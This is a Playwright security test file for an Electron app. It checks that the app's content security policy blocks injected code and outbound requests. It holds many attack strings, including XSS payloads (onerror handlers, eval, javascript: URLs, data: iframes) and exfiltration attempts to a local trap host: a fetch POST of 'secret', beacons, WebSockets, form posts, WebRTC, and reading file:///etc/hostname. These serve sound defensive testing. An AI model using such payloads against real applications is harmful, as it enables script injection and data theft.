import { expect, test } from '@playwright/test'
import { attack, violations } from './attack.ts'
import { shareOffice } from '../support/shared-office.ts'
import { setTrap, type Trap } from './trap.ts'

/**
 * Attacked: the content security policy (electron/main/security/app-protocol.ts). Whoever gets markup or a string into
 * the page must neither run it as code nor carry anything out. Each attack names the directive that has to stop it: a
 * request that only some later layer stops would be a hole in this one.
 */

const office = shareOffice()
let trap: Trap
test.beforeAll(async () => {
  trap = await setTrap()
})
test.afterEach(() => trap.expectAlone())
test.afterAll(() => trap.close())

/** Puts an element into the page and waits for what becomes of it. */
const element = (tag: string, properties: Record<string, string>): string => `
  const made = Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)})
  const done = new Promise((resolve) => { made.onload = () => resolve('loaded'); made.onerror = () => resolve('failed') })
  document.body.append(made)
  return done
`

test('the policy comes with every answer and holds no exception', async () => {
  const { app } = office()
  const policies = await app.evaluate(async ({ session }) => {
    const addresses = ['index.html', 'missing.html']
    const answers = addresses.map((name) => session.fromPartition('office').fetch(`app://integrationsbuero/${name}`))
    return (await Promise.all(answers)).map((answer) => answer.headers.get('content-security-policy') ?? '')
  })
  for (const policy of policies) {
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("connect-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).not.toMatch(/unsafe|https?:|\*|wasm|strict-dynamic/)
  }
  expect(policies[0]).not.toBe(policies[1])
})

test('code: neither inline scripts and handlers nor compiled strings run', async () => {
  const { window } = office()
  const runs: [string, string][] = [
    ["const s = document.createElement('script'); s.text = 'globalThis.stolen = 1'; document.body.append(s)", 'script-src-elem'],
    ["document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"stolen=1\">'); await new Promise(r => setTimeout(r, 200))", 'script-src-attr'],
    ["document.body.setAttribute('onclick', 'stolen=1'); document.body.click()", 'script-src-attr'],
    ["eval('globalThis.stolen = 1')", 'script-src'],
    ["new Function('globalThis.stolen = 1')()", 'script-src'],
    ["setTimeout('globalThis.stolen = 1', 0); await new Promise(r => setTimeout(r, 50))", 'script-src'],
    ["await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); globalThis.stolen = 1", 'script-src'],
    ["new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))", 'worker-src'],
    ["new SharedWorker('data:text/javascript,1')", 'worker-src'],
    ["await import(URL.createObjectURL(new Blob(['globalThis.stolen = 1'], { type: 'text/javascript' })))", 'script-src-elem'],
    ["await import('data:text/javascript,globalThis.stolen = 1')", 'script-src-elem'],
    ["const a = document.createElement('a'); a.href = 'javascript:stolen=1'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 100))", 'script-src-elem'],
  ]
  for (const [code, directive] of runs) expect(await violations(window, code), code).toEqual([directive])
  expect(await attack(window, 'return typeof stolen')).toBe('undefined')
})

test('styles: no element without the nonce, no attribute in markup', async () => {
  const { window } = office()
  const style = "const s = document.createElement('style'); s.textContent = 'body { outline-width: 77px }'; document.head.append(s)"
  expect(await violations(window, style)).toEqual(['style-src-elem'])
  expect(await violations(window, "document.body.insertAdjacentHTML('beforeend', '<i id=probe style=\"order: 77\">x</i>')")).toEqual(['style-src-attr'])
  expect(await attack(window, 'return getComputedStyle(document.body).outlineWidth + getComputedStyle(probe).order')).not.toContain('77')
})

test('styles: the nonce is another one at each load and markup can not read it', async () => {
  const { window } = office()
  const nonces = async (): Promise<unknown> => attack(window, `
    return [document.querySelector('meta[property=csp-nonce]').nonce, document.querySelector('meta[property=csp-nonce]').getAttribute('nonce')]
  `)
  const [first, inMarkup] = (await nonces()) as [string, string]
  expect(Buffer.from(first, 'base64')).toHaveLength(16)
  expect(inMarkup).toBe('')
  await window.reload()
  const [second] = (await nonces()) as [string]
  expect(second).not.toBe(first)
})

test('requests by script: fetch, XMLHttpRequest, WebSocket, EventSource, beacon, WebTransport', async () => {
  const { window } = office()
  const requests = [
    `await fetch('http://${trap.host}/fetch', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
    `await fetch('http://${trap.host}/keepalive', { mode: 'no-cors', keepalive: true })`,
    `const x = new XMLHttpRequest(); x.open('GET', 'http://${trap.host}/xhr'); x.send()`,
    `new WebSocket('ws://${trap.host}/socket')`,
    `new EventSource('http://${trap.host}/events')`,
    `navigator.sendBeacon('http://${trap.host}/beacon', 'secret')`,
    `await new WebTransport('https://${trap.host}/transport').ready`,
    `await fetch('file:///etc/hostname')`,
    `await fetch('app://integrationsbuero/index.html')`,
  ]
  for (const code of requests) expect(await violations(window, code), code).toEqual(['connect-src'])
})

test('requests by markup: scripts, images, styles, fonts, media, frames, objects', async () => {
  const { window } = office()
  const markup: [string, string][] = [
    [element('script', { src: `http://${trap.host}/a.js` }), 'script-src-elem'],
    [element('script', { src: `http://${trap.host}/b.js`, type: 'module' }), 'script-src-elem'],
    [element('img', { src: `http://${trap.host}/a.svg` }), 'img-src'],
    [element('link', { rel: 'stylesheet', href: `http://${trap.host}/a.css` }), 'style-src-elem'],
    [element('link', { rel: 'icon', href: `http://${trap.host}/icon.svg` }), 'img-src'],
    [element('link', { rel: 'modulepreload', href: `http://${trap.host}/c.js` }), 'script-src-elem'],
    [element('video', { src: `http://${trap.host}/video`, preload: 'auto' }), 'media-src'],
    [element('audio', { src: `http://${trap.host}/audio`, preload: 'auto' }), 'media-src'],
    [element('object', { data: `http://${trap.host}/object` }), 'object-src'],
    [element('embed', { src: `http://${trap.host}/embed` }), 'object-src'],
    [element('iframe', { src: `http://${trap.host}/frame` }), 'frame-src'],
    [element('iframe', { src: 'data:text/html,<script>stolen=1</script>' }), 'frame-src'],
    [element('iframe', { src: 'app://integrationsbuero/index.html' }), 'frame-src'],
    [`await new FontFace('f', 'url(http://${trap.host}/font)').load()`, 'font-src'],
    [`document.body.style.backgroundImage = 'url(http://${trap.host}/background)'; await new Promise(r => setTimeout(r, 100))`, 'img-src'],
  ]
  for (const [code, directive] of markup) expect(await violations(window, code), code).toEqual([directive])
})

test('requests that no directive or only default-src knows: hints, prefetch, ping, WebRTC', async () => {
  const { window } = office()
  for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'prerender']) {
    await attack(window, element('link', { rel, href: `http://${trap.host}/${rel}`, as: 'fetch' }))
  }
  await attack(window, `
    const a = Object.assign(document.createElement('a'), { href: '#x', ping: 'http://${trap.host}/ping' })
    document.body.append(a); a.click()
  `)
  await attack(window, `
    const script = Object.assign(document.createElement('script'), { type: 'speculationrules' })
    script.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${trap.host}/speculation'] }] })
    document.body.append(script)
  `)
  const candidates = await attack(window, `
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:${trap.host}' },
      { urls: 'turn:${trap.host}?transport=udp', username: 'a', credential: 'b' },
      { urls: 'turn:${trap.host}?transport=tcp', username: 'a', credential: 'b' },
    ] })
    const found = []
    peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate)
    peer.createDataChannel('out')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 1200))
    return found.filter((candidate) => !candidate.includes('.local')).join()
  `)
  expect(candidates).toBe('')
})

test('forms and base', async () => {
  const { window } = office()
  const form = `
    const form = Object.assign(document.createElement('form'), { action: 'http://${trap.host}/form', method: 'post' })
    form.innerHTML = '<input name=secret value=1>'
    document.body.append(form); form.submit()
    await new Promise((resolve) => setTimeout(resolve, 200))
  `
  expect(await violations(window, form)).toEqual(['form-action'])
  expect(await violations(window, `document.head.append(Object.assign(document.createElement('base'), { href: 'http://${trap.host}/' }))`)).toEqual(['base-uri'])
  expect(await attack(window, 'return document.baseURI')).toMatch(/^app:\/\/integrationsbuero\/index\.html/)
  expect(await attack(window, 'return typeof stolen')).toBe('undefined')
})
